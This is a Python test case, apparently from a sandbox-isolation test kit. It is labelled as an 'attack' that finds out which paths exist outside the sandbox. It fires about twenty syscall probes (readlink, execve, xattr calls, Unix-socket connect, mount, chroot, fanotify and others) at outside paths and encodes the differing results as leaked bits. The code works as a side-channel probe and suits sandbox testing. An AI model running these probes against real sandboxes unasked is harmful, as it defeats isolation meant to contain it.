# SPDX-License-Identifier: Apache-2.0
# attack: which names exist outside, told by readlink, chdir, exec, xattr, connect, watches and handles
# class: exist
# wins: leak
from kit import *

import socket
tried()
b = ctypes.create_string_buffer(256)
argv = (ctypes.c_char_p * 2)(b'x', None)
s = socket.socketpair()[0]
calls = (lambda p: sc('readlink', p, b, 255), lambda p: sc('execve', p, argv, argv), lambda p: sc('execveat', AT_FDCWD, p, argv, argv, 0),
         lambda p: sc('getxattr', p, b'user.none', b, 255), lambda p: sc('listxattr', p, b, 255),
         lambda p: sc('connect', s.fileno(), b'\1\0' + p, 2 + len(p)), lambda p: sc('bind', s.fileno(), b'\1\0' + p + b'/x/y', len(p) + 6),
         lambda p: sc('inotify_add_watch', 1, p, 1), lambda p: sc('name_to_handle_at', AT_FDCWD, p, b, b, 0),
         lambda p: sc('acct', p + b'/x'), lambda p: sc('swapon', p, 0), lambda p: sc('uselib', p), lambda p: sc('chroot', p + b'/x/y'),
         lambda p: sc('mount', p, p, None, 1 << 50, None), lambda p: sc('umount2', p, 8), lambda p: sc('quotactl', 0, p, 0, None),
         lambda p: sc('open_tree', AT_FDCWD, p, 0x100), lambda p: sc('utimes', p + b'/x/y', None),
         lambda p: sc('fanotify_mark', 1, 1, 1, AT_FDCWD, p), lambda p: sc('chdir', p))
for probe in calls:
    answers = [min(probe(os.fsencode(OUT + '/exist/e%02d' % i)), 0) for i in range(F['bits'])]
    for there in set(answers):
        say('BITS=' + ''.join('1' if a == there else '0' for a in answers))
